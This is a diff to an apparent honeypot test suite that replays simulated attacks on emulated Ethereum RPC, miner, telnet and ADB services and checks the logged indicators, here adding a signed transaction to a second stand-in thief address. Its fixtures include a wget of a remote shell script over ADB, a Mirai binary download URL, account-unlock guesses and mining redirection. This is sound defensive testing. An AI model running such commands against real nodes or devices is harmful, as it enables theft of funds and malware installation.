@@ -11,7 +11,8 @@ clients' own calls, test/data/jsonrpc-client.cjs and the lines below):
 
 - ethers 6 (from npm, test/data/jsonrpc-client.cjs) against 8545 over IPv4: recon (single
   calls and a batch), three personal_unlockAccount guesses, one eth_sendTransaction to
-  0xcdcd...cd, personal_newAccount, miner_setEtherbase and miner_start. The script exits 0 only
+  0xcdcd...cd, one eth_sendRawTransaction (signed by ethers, EIP-1559) to 0xefef...ef,
+  personal_newAccount, miner_setEtherbase and miner_start. The script exits 0 only
   when ethers took every answer.
 - curl over IPv6: eth_accounts and eth_blockNumber on one keep-alive connection.
 - nc: Claymore's miner_getstat1 and a miner_file command on 3333.
@@ -51,6 +52,7 @@ SENSOR_HTTP = 9478  # in the sensor's own namespace
 NODE_DIR = os.environ.get("SCANSCOPE_NODE_DIR", "/opt/ssnode")
 VICTIM = "0x407d73d8a49eeb85d32cf465507dd71d507100c1"
 THIEF = "0x" + "cd" * 20
+RAW_THIEF = "0x" + "ef" * 20  # the recipient of jsonrpc-client.cjs's signed transaction
 DOWNLOAD = "http://192.0.2.66/bins/mirai.mips"
 ADB_SHELL = "cd /data/local/tmp; wget http://192.0.2.66/x.sh"
 PUSHED = b"#!/bin/sh\necho mined\n"
@@ -194,12 +196,12 @@ def check_clients(got, failures):
 
 
 # The steps each client's calls reach, by port: (segments, sources). jsonrpc-client.cjs makes
-# five recon calls and a batch of three (one request), three unlocks, one send and three miner
-# calls, each its own request; curl over IPv6 two recon calls.
+# five recon calls and a batch of three (one request), three unlocks, two sends (one signed by
+# the client) and three miner calls, each its own request; curl over IPv6 two recon calls.
 EXPECTED_STEPS = {
     (8545, "eth_recon"): (6 + 2, 2),
     (8545, "eth_unlock"): (3, 1),
-    (8545, "eth_send"): (1, 1),
+    (8545, "eth_send"): (2, 1),
     (8545, "eth_miner"): (3, 1),
     (3333, "miner_status"): (1, 1),
     (3333, "miner_control"): (1, 1),
@@ -222,10 +224,10 @@ def check_report(report, failures):
         print(f"steps: {sorted(steps.items())}")
     counters = report["conversation"]["counters"]
     # Every connection that completed its handshake went on talking; the requests answered
-    # are at least the clients' calls: ethers 13 (five, a batch, three, one, three), curl 2,
+    # are at least the clients' calls: ethers 14 (five, a batch, three, two, three), curl 2,
     # nc 2, the exploit 1, telnet 3 lines, adb CNXN and two OPENs (its writes come on top).
     if counters["emulation_conversations"] != counters["responder_handshakes"] or \
-            counters["emulation_requests"] < 13 + 2 + 2 + 1 + 3 + 3:
+            counters["emulation_requests"] < 14 + 2 + 2 + 1 + 3 + 3:
         failures.append(f"emulation counters: {counters}")
     for bad in ("emulation_malformed_http", "emulation_malformed_json", "emulation_too_large",
                 "emulation_table_full", "emulation_source_cap", "responder_unknown_acks"):
@@ -238,7 +240,7 @@ def check_narrative(source_dir, report_path, failures):
     r = run(sys.executable, os.path.join(source_dir, "scripts", "print-report.py"), report_path,
             capture_output=True, text=True)
     want = ("8545/tcp emulated: 2 sources asked the node about itself or its accounts, "
-            "1 tried to unlock an account, 1 sent a transaction to 1 address, "
+            "1 tried to unlock an account, 1 sent a transaction to 2 addresses, "
             "1 redirected its mining")
     if want not in r.stdout:
         failures.append(f"print-report.py does not say {want!r}: {r.stdout[-800:]}")
@@ -256,8 +258,9 @@ def check_api(failures):
     """An analyst asks for the addresses transactions went to, and for the file hashes."""
     code, body = api("indicators?kind=eth_recipient")
     got = json.loads(body)["indicators"] if code == 200 else body
-    if code != 200 or [(i["value"], i["port"], i["count"], i["sources"], i["first_source"])
-                       for i in got] != [(THIEF, 8545, 1, 1, SCANNER)]:
+    if code != 200 or sorted((i["value"], i["port"], i["count"], i["sources"], i["first_source"])
+                             for i in got) != [(THIEF, 8545, 1, 1, SCANNER),
+                                               (RAW_THIEF, 8545, 1, 1, SCANNER)]:
         failures.append(f"/api/v1/indicators?kind=eth_recipient: {code} {got}")
     code, body = api("indicators?kind=file_sha256&port=5555&since=2020-01-01T00:00:00Z")
     digest = hashlib.sha256(PUSHED).hexdigest()
@@ -285,17 +288,19 @@ def check_metrics(metrics, failures):
     if not any(line.startswith("scanscope_conversation_step_sources") and line.endswith(" 1")
                for line in samples):
         failures.append(f"/metrics lacks {want}: {samples}")
-    # One recipient address, one etherbase, one pushed file: distinct values by kind.
-    for kind in ("eth_recipient", "eth_etherbase", "file_sha256", "credential"):
-        if f'scanscope_indicator_values{{kind="{kind}"}} 1' not in metrics:
-            failures.append(f"/metrics: no indicator_values of {kind} at 1")
+    # Two recipient addresses, one etherbase, one pushed file: distinct values by kind.
+    for kind, n in (("eth_recipient", 2), ("eth_etherbase", 1), ("file_sha256", 1),
+                    ("credential", 1)):
+        if f'scanscope_indicator_values{{kind="{kind}"}} {n}' not in metrics:
+            failures.append(f"/metrics: no indicator_values of {kind} at {n}")
 
 
 def check_report_indicators(report, failures):
     """The report's indicators: each the clients gave, with its count and sources."""
     got = {(i["kind"], i["port"], i["value"]): (i["count"], i["sources"])
            for i in report["conversation"]["indicators"]}
-    want = {("eth_recipient", 8545, THIEF): (1, 1), ("eth_etherbase", 8545, THIEF): (1, 1),
+    want = {("eth_recipient", 8545, THIEF): (1, 1), ("eth_recipient", 8545, RAW_THIEF): (1, 1),
+            ("eth_etherbase", 8545, THIEF): (1, 1),
             ("eth_sender", 8545, VICTIM): (1, 1), ("eth_passphrase", 8545, ""): (3, 1),
             ("url", 52869, DOWNLOAD): (1, 1),
             ("file_sha256", 5555, hashlib.sha256(PUSHED).hexdigest()): (1, 1),
@@ -322,6 +327,7 @@ def check_events(path, failures):
             (SCANNER, 23, "shell_command", TELNET_COMMAND),
             (SCANNER, 23, "url", "http://192.0.2.66/t.sh")}
     want |= {(SCANNER, 8545, "eth_recipient", THIEF), (SCANNER, 8545, "eth_sender", VICTIM),
+             (SCANNER, 8545, "eth_recipient", RAW_THIEF),
             (SCANNER, 8545, "eth_etherbase", THIEF), (SCANNER, 3333, "miner_command",
                                                        "miner_file reboot.bat"),
             (SCANNER, 52869, "url", DOWNLOAD)}
